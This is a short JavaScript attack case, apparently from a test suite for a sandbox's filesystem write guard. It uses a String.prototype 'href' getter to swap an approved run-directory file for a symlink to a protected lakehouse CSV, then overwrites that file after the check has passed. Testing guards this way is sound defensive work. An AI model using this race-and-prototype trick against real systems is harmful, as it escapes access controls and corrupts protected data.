/* @attack {"title": "plant an href getter on String.prototype: Node's fs reads path.href after the guard has decided, so the getter swaps the decided run-dir file for a symlink to the lakehouse before the open", "rule": "fs.write"} */
import fs from 'node:fs';
import path from 'node:path';

const run = process.env.SLEEVE_RUN_DIR;
const lake = path.resolve('data/lakehouse/AAPL.csv');
const target = `${run}/href.csv`;
fs.writeFileSync(target, 'innocent\n');
let swapped = false;
Object.defineProperty(String.prototype, 'href', {
  configurable: true,
  get() {
    if (!swapped) {
      swapped = true;
      delete String.prototype.href;
      fs.unlinkSync(target);
      fs.symlinkSync(lake, target);
    }
    return undefined;
  },
});
fs.writeFileSync(target, 'poisoned through an href getter\n');
